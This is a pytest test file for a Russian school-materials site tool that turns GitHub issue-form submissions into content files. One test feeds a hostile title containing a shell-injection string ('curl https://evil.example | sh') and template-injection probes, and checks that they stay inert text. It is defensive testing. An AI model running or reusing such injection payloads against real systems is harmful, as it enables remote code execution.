"""The «Предложить материал» issue form: generated from the model, parsed back into a file
that `imc check` accepts."""
from __future__ import annotations

import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
import yaml
from imc.content import model
from imc.authoring.proposal import (
    FORM_PATH,
    NO_RESPONSE,
    form_fields,
    issue_form,
    issue_form_yaml,
    parse_issue_form,
    write_proposal,
)
from imc.core.problems import ERROR, ImcError

ROOT = Path(__file__).resolve().parents[1]

AUTHORS = [
    {"id": "lebedeva-ov", "name": "Лебедева Ольга Викторовна", "position": "учитель русского языка и литературы",
     "organisation": "test-litsey-12", "consent": True},
    {"id": "orlov-dn", "name": "Орлов Дмитрий Николаевич", "position": "учитель литературы",
     "organisation": "test-litsey-12", "consent": True},
]
ORGANISATIONS = [
    {"id": "test-litsey-12", "name": "Муниципальное бюджетное общеобразовательное учреждение «Лицей № 12»",
     "short_name": "МБОУ «Лицей № 12»", "type": "litsey", "district": "zarechnyy"},
]

# What GitHub renders from the form for a real submission (CRLF as the web form sends it).
SAMPLE = """### Тип материала

Лучшая практика

### Название

Читательский марафон «Книжная карта» в 5–6 классах

### Краткое описание

Как за одну четверть втянуть пятиклассников в чтение: командный марафон с картой книг и еженедельными станциями.

### Вид материала

_No response_

### Авторы

Лебедева О. В.
Орлов Дмитрий Николаевич

### Согласие

- [X] Все авторы согласны, что их имена будут опубликованы на сайте вместе с материалом
- [X] В материале и файлах нет персональных данных детей и родителей (фамилий, фотографий без согласия, телефонов)

### Организация

МБОУ «Лицей № 12»

### Предметы

Русский язык, Литература

### Уровни образования

ООО

### Классы

5–6

### Направления

Функциональная грамотность, Воспитание

### Год

2024

### Ключевые слова

читательская грамотность, марафон

### Лицензия

CC BY 4.0

### Проблема

Пятиклассники читают мало: по анкете 60 % не дочитали летом ни одной книги.

### Идея

Чтение как командная игра: класс делится на команды, каждая идёт по «карте книг».

### Как это делается

1. Старт: анкета и выбор команд.
2. Каждую неделю — «станция»: короткое задание по прочитанной книге.

### Этап 2

Финал — защита «паспорта книги».

![Карта книг](https://github.com/user-attachments/assets/0f1e2d3c-aaaa-bbbb-cccc-123456789abc)

### Результаты

Доля дочитавших хотя бы одну книгу выросла с 40 до 85 %.

### Ресурсы

_No response_

### Как повторить

Начинайте с коротких книг; не ставьте оценок за станции.

### Назначение

_No response_

### Содержание

_No response_

### Как использовать

_No response_

### Вложения

[karta-knig.pdf](https://github.com/user-attachments/files/17000001/karta-knig.pdf)
[anketa.docx](https://github.com/user-attachments/files/17000002/anketa.docx)
Видео с финала: https://rutube.ru/video/abc123/
""".replace("\n", "\r\n")


def _registry(path: Path, extra: list[dict]) -> None:
    rows = yaml.safe_load(path.read_text(encoding="utf-8")) if path.exists() else None
    rows = rows if isinstance(rows, list) else []
    ids = {r.get("id") for r in rows if isinstance(r, dict)}
    rows += [e for e in extra if e["id"] not in ids]
    path.write_text(yaml.safe_dump(rows, allow_unicode=True, sort_keys=False), encoding="utf-8")


@pytest.fixture
def project(tmp_path) -> Path:
    """The real data/ of the repository (vocabularies, criteria…) plus the people of the sample."""
    root = tmp_path / "site"
    (root / "docs").mkdir(parents=True)
    shutil.copytree(ROOT / "data", root / "data")
    for reg in model.REGISTRIES.values():  # registries still being written: start empty
        if not (root / "data" / reg.file).exists():
            (root / "data" / reg.file).write_text("[]\n", encoding="utf-8")
    _registry(root / "data" / "organisations.yml", ORGANISATIONS)
    _registry(root / "data" / "people.yml", AUTHORS)
    return root


def imc(root: Path, *args: str) -> subprocess.CompletedProcess:
    env = {**os.environ, "NO_MKDOCS_2_WARNING": "1", "PYTHONIOENCODING": "utf-8"}
    return subprocess.run([sys.executable, "-m", "imc.cli", "--root", str(root), *args], cwd=root,
                          capture_output=True, text=True, env=env, timeout=120)


def problems_of(root: Path, rel: str):
    from imc.check.load import load_project
    return [p for p in load_project(root).problems if p.path == rel]


# ------------------------------------------------------------------ the form is generated

def test_committed_form_is_generated_from_the_model():
    from imc.check.load import load_project
    committed = (ROOT / FORM_PATH).read_text(encoding="utf-8")
    assert committed == issue_form_yaml(load_project(ROOT)), \
        f"{FORM_PATH} устарел: выполните  python -m imc.authoring.proposal --form"


def test_dropdown_options_are_the_vocabulary_titles():
    """Read independently of the generator: the committed form against data/vocabularies.yml."""
    form = yaml.safe_load((ROOT / FORM_PATH).read_text(encoding="utf-8"))
    vocab = yaml.safe_load((ROOT / "data" / "vocabularies.yml").read_text(encoding="utf-8"))
    by_id = {item.get("id"): item for item in form["body"]}
    expected = {"subjects": "subjects", "levels": "levels", "directions": "directions",
                "material_type": "material_types", "licence": "licences"}
    for field_id, vocab_name in expected.items():
        options = by_id[field_id]["attributes"]["options"]
        assert options == [str(e["title"]) for e in vocab[vocab_name]], field_id
    assert by_id["type"]["attributes"]["options"] == [t.label for t in (model.PRACTICE, model.PRODUCT)]
    for multi in ("subjects", "levels", "directions"):
        assert by_id[multi]["attributes"]["multiple"] is True


def test_form_labels_come_from_the_model_and_are_unique():
    form = yaml.safe_load((ROOT / FORM_PATH).read_text(encoding="utf-8"))
    items = [i for i in form["body"] if i["type"] != "markdown"]
    labels = [i["attributes"]["label"] for i in items]
    ids = [i["id"] for i in items]
    assert len(set(labels)) == len(labels) and len(set(ids)) == len(ids)
    assert all(re.fullmatch(r"[A-Za-z0-9_-]+", i) for i in ids)
    for name in ("title", "description", "authors", "organisation", "levels", "year", "licence"):
        assert model.PRACTICE.field(name).label in labels
    assert model.PRODUCT.field("material_type").label in labels
    assert set(model.PRACTICE.sections) <= set(labels)
    required = {i["id"] for i in items if (i.get("validations") or {}).get("required")}
    assert {"type", "title", "description", "authors", "organisation", "levels", "year"} <= required
    consent = next(i for i in items if i["id"] == "consent")
    assert [o["required"] for o in consent["attributes"]["options"]] == [False, True]
    assert any(i["type"] == "textarea" and i["id"] == "attachments" for i in items)


ALLOWED = {  # GitHub issue-form syntax: attributes each element type accepts
    "markdown": {"value"}, "input": {"label", "description", "placeholder", "value"},
    "textarea": {"label", "description", "placeholder", "value", "render"},
    "dropdown": {"label", "description", "multiple", "options", "default"},
    "checkboxes": {"label", "description", "options"},
}


def test_form_follows_github_issue_form_syntax():
    form = yaml.safe_load((ROOT / FORM_PATH).read_text(encoding="utf-8"))
    assert set(form) <= {"name", "description", "title", "labels", "assignees", "body", "projects", "type"}
    assert form["name"] and form["description"] and form["body"]
    for item in form["body"]:
        attrs = item["attributes"]
        assert set(attrs) <= ALLOWED[item["type"]], item
        assert set(item) <= {"type", "id", "attributes", "validations"}
        if item["type"] in ("markdown", "checkboxes"):
            assert "validations" not in item
        if item["type"] == "dropdown":
            assert attrs["options"] and len(set(attrs["options"])) == len(attrs["options"])
            assert all(o and o.lower() != "none" for o in attrs["options"])  # «None» is reserved
        if item["type"] == "checkboxes":
            assert all(set(o) <= {"label", "required"} for o in attrs["options"])
        if item["type"] == "textarea":
            assert "render" not in attrs  # a rendered block would arrive inside a code fence


def test_form_needs_the_vocabularies():
    from imc.content.project import Project
    with pytest.raises(ImcError, match="словар"):
        issue_form(Project(Path("/nonexistent")))


# ------------------------------------------------------------------ parsing what GitHub renders

def test_parse_rendered_form():
    form = parse_issue_form(SAMPLE)
    assert form["type"] == "Лучшая практика"
    assert form["title"] == "Читательский марафон «Книжная карта» в 5–6 классах"
    assert form["material_type"] == ""  # _No response_
    assert form["subjects"] == ["Русский язык", "Литература"]
    assert form["levels"] == ["ООО"]
    assert len(form["consent"]) == 2
    assert form["section-resursy"] == ""
    # a heading the author typed stays inside the answer it belongs to
    assert "### Этап 2" in form["section-kak-eto-delaetsya"]
    assert "\r" not in form["section-kak-eto-delaetsya"]


def test_parse_round_trip_of_every_field():
    """Render a body the way GitHub does from the form, parse it back."""
    values, blocks = {}, []
    for f in form_fields():
        if f.type == "checkboxes":
            values[f.id] = list(f.options[:1])
            text = "\n".join(f"- [{'X' if o in values[f.id] else ' '}] {o}" for o in f.options)
        elif f.type == "dropdown" and f.multiple:
            values[f.id] = ["Один", "Два"]
            text = "Один, Два"
        else:
            values[f.id] = f"ответ на «{f.label}»" if f.type != "textarea" else f"строка 1\n\n### {f.label}?\nстрока 3"
            text = values[f.id]
        blocks.append(f"### {f.label}\n\n{text}")
    parsed = parse_issue_form("\n\n".join(blocks) + "\n")
    for f in form_fields():
        if f.type == "textarea":  # «### Label?» is not the label heading itself
            assert parsed[f.id] == values[f.id], f.id
        else:
            assert parsed[f.id] == values[f.id], f.id


@pytest.mark.parametrize("body", ["", "Просто текст без формы", "## Название\n\nне тот уровень"])
def test_not_a_form(body):
    with pytest.raises(ImcError, match="не заявка из формы"):
        parse_issue_form(body)


def test_no_response_means_empty():
    form = parse_issue_form(f"### Название\n\n{NO_RESPONSE}\n\n### Предметы\n\n{NO_RESPONSE}\n")
    assert form == {"title": "", "subjects": []}


# ------------------------------------------------------------------ writing the content file

def test_sample_issue_becomes_a_valid_practice(project):
    path = write_proposal(project, SAMPLE, 12)
    rel = path.relative_to(project).as_posix()
    assert rel == "docs/praktiki/chitatelskiy-marafon-knizhnaya-karta-v-5-6-klassakh/index.md"
    proc = imc(project, "check", rel)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert ": ошибка:" not in proc.stdout, proc.stdout

    from imc.check.load import load_project
    item = load_project(project).item_at(rel[len("docs/"):])
    m = item.meta
    assert m["title"] == "Читательский марафон «Книжная карта» в 5–6 классах"
    assert m["authors"] == ["lebedeva-ov", "orlov-dn"]
    assert m["organisation"] == "test-litsey-12"
    assert m["subjects"] == ["russkiy-yazyk", "literatura"]
    assert m["levels"] == ["ooo"] and m["grades"] == [5, 6]
    assert m["directions"] == ["funktsionalnaya-gramotnost", "vospitanie"]
    assert m["year"] == 2024 and m["licence"] == "cc-by-4"
    assert m["keywords"] == ["читательская грамотность", "марафон"]
    assert m["review"]["status"] == "na-rassmotrenii"
    text = path.read_text(encoding="utf-8")
    assert "заявки #12" in text
    # every section of the passport, the missing one with a TODO hint
    for section in model.PRACTICE.sections:
        assert f"\n## {section}\n" in text
    assert re.search(r"## Ресурсы\n\nTODO: ", text)
    # a picture pasted into the form becomes a link: the site never loads it from GitHub
    assert "[Карта книг](https://github.com/user-attachments/assets/" in text and "![" not in text
    # attachments are listed for the reviewer
    files = text.split("## Файлы из заявки", 1)[1]
    assert "[karta-knig.pdf](https://github.com/user-attachments/files/17000001/karta-knig.pdf)" in files
    assert "(https://rutube.ru/video/abc123/)" in files and "TODO" in files
    warnings = [p for p in problems_of(project, rel) if p.severity != ERROR]
    assert {p.code for p in warnings} <= {"todo"}


def test_cli_proposal(project, tmp_path):
    body = tmp_path / "issue.md"
    body.write_text(SAMPLE, encoding="utf-8")
    proc = imc(project, "proposal", str(body), "--number", "7")
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout.strip() == "docs/praktiki/chitatelskiy-marafon-knizhnaya-karta-v-5-6-klassakh/index.md"
    again = imc(project, "proposal", str(body), "--number", "7")  # same title: a new code with the number
    assert again.returncode == 0 and again.stdout.strip().endswith("-v-5-6-klassakh-7/index.md")
    third = imc(project, "proposal", str(body), "--number", "7")
    assert third.returncode == 1 and "уже есть" in third.stderr and "Traceback" not in third.stderr


def _with(body: str, label: str, value: str) -> str:
    return re.sub(rf"(### {re.escape(label)}\r?\n\r?\n)(.*?)(?=\r?\n\r?\n### |\Z)",
                  lambda m: m.group(1) + value, body, count=1, flags=re.S)


def test_unknown_people_and_school_become_todo_markers(project):
    body = _with(_with(SAMPLE, "Авторы", "Петрова Анна Ивановна"), "Организация", "МАОУ «Гимназия № 5»")
    path = write_proposal(project, body, 3)
    text = path.read_text(encoding="utf-8")
    assert "petrova-ai  # TODO: «Петрова Анна Ивановна» нет в data/people.yml" in text
    assert "consent: true (заявка #3)" in text
    assert 'organisation: "maou-gimnaziya-5"  # TODO: «МАОУ «Гимназия № 5»» нет в data/organisations.yml' in text
    rel = path.relative_to(project).as_posix()
    errors = {(p.field, p.code) for p in problems_of(project, rel) if p.severity == ERROR}
    assert errors == {("authors[0]", "reference"), ("organisation", "reference")}


def test_without_consent_no_name_is_written(project):
    body = _with(_with(SAMPLE, "Авторы", "Петрова Анна Ивановна"), "Согласие",
                 "- [ ] Все авторы согласны, что их имена будут опубликованы на сайте вместе с материалом\r\n"
                 "- [X] В материале и файлах нет персональных данных детей и родителей "
                 "(фамилий, фотографий без согласия, телефонов)")
    text = write_proposal(project, body, 4).read_text(encoding="utf-8")
    assert "Петрова" not in text and "petrova" not in text
    assert "avtor-4-1  # TODO: автор 1 из заявки (согласие на публикацию имени не дано)" in text


def test_product_proposal(project):
    body = _with(_with(SAMPLE, "Тип материала", "Методический продукт"), "Вид материала", "Сборник заданий")
    body = _with(body, "Содержание", "Двадцать задач с ответами.")
    path = write_proposal(project, body, 0)
    rel = path.relative_to(project).as_posix()
    assert rel.startswith("docs/kopilka/") and rel.endswith("/index.md")
    text = path.read_text(encoding="utf-8")
    assert 'material_type: "sbornik-zadaniy"' in text
    assert "## Содержание\n\nДвадцать задач с ответами." in text
    assert "## Проблема" not in text and "Пятиклассники" not in text  # practice sections are not used
    assert not [p for p in problems_of(project, rel) if p.severity == ERROR]


def test_hostile_text_stays_text(project):
    title = 'Урок: "; curl https://evil.example | sh; # `id` {{ config }}'
    body = _with(_with(SAMPLE, "Название", title), "Идея", "---\ntitle: подмена\n---\n{{ cycler.__init__ }}")
    path = write_proposal(project, body, 9)
    from imc.check.load import load_project
    rel = path.relative_to(project).as_posix()
    item = load_project(project).item_at(rel[len("docs/"):])
    assert item.meta["title"] == title  # written exactly, as one YAML string
    codes = {p.code for p in problems_of(project, rel) if p.severity == ERROR}
    assert "template" in codes  # `imc check` reports the template syntax; nothing ran it


@pytest.mark.parametrize("label, value, message", [
    ("Тип материала", NO_RESPONSE, "не выбран тип"),
    ("Тип материала", "Положение", "не поддерживается"),
    ("Название", NO_RESPONSE, "«Название»"),
    ("Уровни образования", NO_RESPONSE, "«Уровни образования»"),
    ("Год", "двадцать четвёртый", "год «двадцать четвёртый»"),
    ("Год", "1812", "год «1812»"),
    ("Классы", "12", "классы «12»"),
    ("Классы", "седьмой", "классы «седьмой»"),
])
def test_bad_input_is_a_russian_error(project, label, value, message):
    with pytest.raises(ImcError, match=re.escape(message)):
        write_proposal(project, _with(SAMPLE, label, value), 1)
    assert not list((project / "docs").rglob("*.md"))


def test_unknown_vocabulary_value_is_left_for_imc_check(project):
    path = write_proposal(project, _with(SAMPLE, "Предметы", "Астрономия"), 2)
    rel = path.relative_to(project).as_posix()
    vocab = [p for p in problems_of(project, rel) if p.code == "vocab"]
    assert vocab and "Астрономия" in vocab[0].message


def test_pre_commit_form_hook_runs_and_watches_the_form_sources():
    """The «issue-form-current» hook names a module that exists (it named `imc.proposal`, gone
    since the engine was split into layers) and watches the files the form is made from."""
    import shlex
    config = yaml.safe_load((ROOT / ".pre-commit-config.yaml").read_text(encoding="utf-8"))
    hook = next(h for h in config["repos"][0]["hooks"] if h["id"] == "issue-form-current")
    cmd = shlex.split(hook["entry"])
    assert cmd[0] == "python"
    proc = subprocess.run([sys.executable, *cmd[1:]], cwd=ROOT, capture_output=True, text=True, timeout=120)
    assert proc.returncode == 0 and "Форма заявки актуальна" in proc.stdout, proc.stdout + proc.stderr
    sources = ["data/vocabularies.yml", "scripts/imc/content/model.py", FORM_PATH] + [
        p.relative_to(ROOT).as_posix() for p in (ROOT / "scripts/imc/authoring").glob("proposal*.py")]
    assert len(sources) >= 6
    for path in sources:
        assert (ROOT / path).is_file() and re.search(hook["files"], path), path
